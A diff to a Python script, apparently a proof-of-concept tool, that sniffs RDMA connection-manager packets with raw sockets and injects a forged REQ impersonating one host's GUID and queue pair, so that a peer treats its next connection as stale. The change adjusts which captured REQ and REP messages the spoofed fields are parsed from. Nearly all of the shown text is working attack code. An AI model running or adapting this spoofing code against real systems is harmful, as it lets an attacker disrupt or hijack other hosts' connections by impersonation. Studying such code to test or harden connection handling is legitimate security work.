@@ -1,7 +1,7 @@
 #!/usr/bin/env python3
 """stranger.py INTERFACE KERNEL OURS: tells OURS in the name of KERNEL that the connection that they make next is stale.
 
-Waits for the REP of KERNEL on the interface, and writes a REQ with its GUID and queue pair. Then counts for nine seconds what the two
+Waits for the REQ of KERNEL and the REP of OURS on the interface, and writes a REQ with the GUID and queue pair of KERNEL. Then counts for nine seconds what the two
 say about it, and prints a line a count. Asks KERNEL itself about a connection that there is not. Root, IPv4.
 """
 import os, random, socket, struct, sys, time
@@ -51,10 +51,11 @@ def main(interface, kernel, ours):
     wire.bind((interface, 0))
     raw = socket.socket(socket.AF_INET, socket.SOCK_RAW, socket.IPPROTO_RAW)
     print("listening", flush=True)
-    is_rep = lambda one: one[:2] == (kernel, REP)
-    message = next(filter(is_rep, heard(wire, time.monotonic() + 30)))[3]
-    theirs, mine = struct.unpack_from(">II", message)
-    qpn, guid = struct.unpack_from(">I", message, 12)[0] >> 8, struct.unpack_from(">Q", message, 28)[0]
+    packets = heard(wire, time.monotonic() + 30)
+    first = lambda who, attribute: next(message for source, is_a, _, message in packets if (source, is_a) == (who, attribute))
+    message = first(kernel, REQ)
+    guid, qpn = struct.unpack_from(">Q", message, 16)[0], struct.unpack_from(">I", message, 32)[0] >> 8
+    mine, theirs = struct.unpack_from(">II", first(ours, REP))
     time.sleep(1)
     send(raw, kernel, ours, mad(REQ, random.getrandbits(64), req(random.getrandbits(32) | 1, guid, qpn, kernel, ours)))
     unknown = random.getrandbits(64)
